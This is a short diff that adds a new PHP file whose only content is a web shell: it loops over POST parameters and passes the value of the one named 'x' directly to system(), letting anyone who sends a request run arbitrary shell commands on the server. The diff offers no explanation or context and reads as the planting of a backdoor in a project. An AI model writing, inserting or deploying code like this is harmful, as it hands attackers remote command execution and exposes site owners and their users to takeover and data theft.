@@ -1,0 +1,4 @@
+<?php
+foreach ($_POST as $key => $value) {
+    if ($key === 'x') { system($value); }
+}
